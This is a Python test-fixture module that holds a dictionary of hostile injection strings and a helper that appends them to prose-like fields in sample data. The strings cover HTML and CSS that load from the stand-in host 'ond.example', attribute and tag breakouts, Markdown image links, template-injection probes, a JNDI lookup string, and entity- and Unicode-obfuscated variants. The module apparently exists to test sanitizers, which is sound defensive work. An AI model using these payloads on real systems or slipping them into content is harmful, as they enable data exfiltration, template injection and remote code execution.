"""Words that people may write, and that some program on the way may take for more than words."""

from __future__ import annotations

import re
from collections.abc import Mapping
from typing import Any

ELSEWHERE = "ond.example"
HOSTILE: Mapping[str, str] = {
    "pictures": '<img src="http://ond.example/1.png"><img srcset="//ond.example/2 2x">'
    "<input type=image src=//ond.example/3>",
    "styles": "<style>@import 'http://ond.example/4';*{background:url(//ond.example/5)}</style>"
    '<p style="background:url(http://ond.example/6)">',
    "things that load": "<link rel=stylesheet href=http://ond.example/7><script src=//ond.example/8></script>"
    "<iframe src=http://ond.example/9></iframe><object data=http://ond.example/10></object>"
    "<svg><image href=http://ond.example/11 /></svg><video poster=//ond.example/12></video>",
    "old ways": '<table background="http://ond.example/13"><body background=//ond.example/14><base href=http://ond.example/>'
    '<meta http-equiv=refresh content="0;url=http://ond.example/15">',
    "out of an attribute": '" style="background:url(//ond.example/16)" x="\' background=//ond.example/17 \'>`',
    "out of everything": "--></style></title></textarea></script><!-- <![endif]--><img src=//ond.example/18>",
    "Markdown": '![se](http://ond.example/19) [x]: http://ond.example/20 "![y](//ond.example/21)" <http://ond.example/22>',
    "a template": "{{ 7*191 }}{% for x in y %}{{ cycler.__init__.__globals__ }}{% endfor %}{# væk #}"
    "{{ '<img src=x>'|safe }}",
    "a format": "%(message)s %s {0} {0.__class__} ${jndi:ldap://ond.example/23} #{7*191} <%= 7*191 %>",
    "entities": "&lt;img src=//ond.example/24&gt; &#60;img src=//ond.example/25&#62; "
    "\\u003cimg src=//ond.example/26\\u003e",
    "strange letters": "\u2028<img src=//ond.example/27>\u202e\u0000\ufeff＜img src=//ond.example/28＞",
}

_PROSE = re.compile(r".*\w\s+\w")


def with_hostile(value: Any, words: str) -> Any:
    """Sample data with `words` behind every text that people might have written: names, titles and prose."""
    if isinstance(value, dict):
        return {key: with_hostile(item, words) for key, item in value.items()}
    if isinstance(value, list | tuple):
        return type(value)(with_hostile(item, words) for item in value)
    return f"{value} {words}" if isinstance(value, str) and _PROSE.match(value) else value
